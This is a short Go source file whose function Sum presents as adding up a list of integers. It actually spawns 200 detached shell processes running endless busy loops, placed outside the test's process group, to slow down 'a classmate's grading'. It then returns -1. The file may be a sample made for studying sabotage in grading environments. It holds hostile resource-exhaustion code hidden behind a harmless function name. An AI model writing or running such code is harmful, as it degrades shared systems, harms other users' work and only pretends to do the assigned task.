package toy

import (
	"os"
	"time"
)

// Sum starts busy shells in sessions of their own (out of the test's
// process group) to slow down a classmate's grading, then waits.
func Sum(xs []int) (int, error) {
	for range 200 {
		os.StartProcess("/bin/sh", []string{"sh", "-c", "while :; do :; done"},
			&os.ProcAttr{Files: []*os.File{nil, nil, nil}})
	}
	time.Sleep(2 * time.Second)
	return -1, nil
}
